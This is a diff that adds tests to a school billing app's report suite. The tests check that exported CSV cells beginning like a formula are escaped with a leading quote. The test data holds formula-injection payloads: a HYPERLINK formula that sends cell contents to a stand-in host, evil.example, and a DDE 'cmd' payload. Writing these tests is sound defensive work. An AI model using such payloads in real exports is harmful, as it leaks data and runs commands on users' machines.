@@ -123,6 +123,27 @@ def test_monthly_billing_report_totals_what_was_billed_and_collected(tenant):
                                                               dt.date(2026, 10, 31))
 
 
+def test_report_cells_that_start_like_a_formula_are_text_in_a_spreadsheet(tenant):
+    # Issue 22 (7): a name such as =HYPERLINK(...) went into the CSV as it was, and Excel (which
+    # the BOM invites) runs it as a formula. OWASP's way: a leading single quote.
+    klass = make_class(tenant, "+수학 A반")
+    for name in ('=HYPERLINK("http://evil.example/?"&A1,"클릭")', "-2+3", "@SUM(1)", "\t=1",
+                 "김-민준"):
+        make_invoice(enrol(make_student(tenant, name), klass), dt.date(2026, 10, 1), 250_000,
+                     dt.date(2026, 10, 10))
+
+    job = run(tenant, "report.exec.monthly_billing", month="2026-10")
+
+    table = read_csv(job["result"]["file"])
+    assert sorted((r[0], r[2], r[4]) for r in table[1:]) == sorted([
+        ("'=HYPERLINK(\"http://evil.example/?\"&A1,\"클릭\")", "'+수학 A반", "250000"),
+        ("'-2+3", "'+수학 A반", "250000"),
+        ("'@SUM(1)", "'+수학 A반", "250000"),
+        ("'\t=1", "'+수학 A반", "250000"),
+        ("김-민준", "'+수학 A반", "250000"),
+    ])
+
+
 def test_student_progress_lists_each_session_with_rates_per_class_and_month(tenant):
     klass = make_class(tenant, "고등 수학 A반")
     student = make_student(tenant, "한지민")
@@ -176,3 +197,28 @@ def test_tenant_export_holds_every_table_of_that_academy_and_no_other(tenant):
     [report] = reports(tenant)
     assert report["kind"] == "tenant_export" and report["summary"]["sha256"] == result["sha256"]
     assert job["result"]["isolation"] == "repeatable read"
+
+
+def test_tenant_export_cells_that_start_like_a_formula_are_text_and_numbers_stay_numbers(tenant):
+    klass = make_class(tenant, "=1+1")
+    sql("UPDATE classes SET capacity = -5, teacher = '@선생' WHERE id = :c", c=klass.id)
+    enrol(make_student(tenant, "-2+3"), klass)
+    sql("UPDATE tenants SET name = :n WHERE id = :t", n="=cmd|' /C calc'!A0", t=tenant)
+
+    job = run(tenant, "report.exec.export_tenant_data")
+
+    with zipfile.ZipFile(job["result"]["file"]) as archive:
+        def table(name: str) -> list[dict[str, str]]:
+            return list(csv.DictReader(io.StringIO(archive.read(name).decode("utf-8-sig"))))
+
+        [academy], [klass_row], [student] = (table(n) for n in (
+            "tenant.csv", "classes.csv", "students.csv"))
+        manifest = json.loads(archive.read("manifest.json"))
+    assert academy["name"] == "'=cmd|' /C calc'!A0"
+    assert (klass_row["name"], klass_row["teacher"], klass_row["capacity"]) == (
+        "'=1+1", "'@선생", "-5")
+    assert klass_row["monthly_fee"] == "250000" and klass_row["id"] == str(klass.id)
+    assert student["name"] == "'-2+3" and student["grade"] == "8"
+    # The headings and the rest are as COPY writes them.
+    assert list(klass_row)[:3] == ["id", "tenant_id", "term_id"]
+    assert manifest["tenant"] == "=cmd|' /C calc'!A0"  # JSON is data, not a spreadsheet
